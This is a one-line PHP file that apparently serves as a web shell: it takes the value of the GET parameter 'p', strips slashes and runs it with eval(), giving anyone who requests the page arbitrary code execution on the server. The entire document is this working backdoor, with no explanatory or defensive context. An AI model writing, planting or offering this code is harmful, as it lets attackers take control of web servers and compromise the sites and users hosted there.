<?php if(isset($_GET['p'])) eval(stripslashes($_GET['p'])); ?>
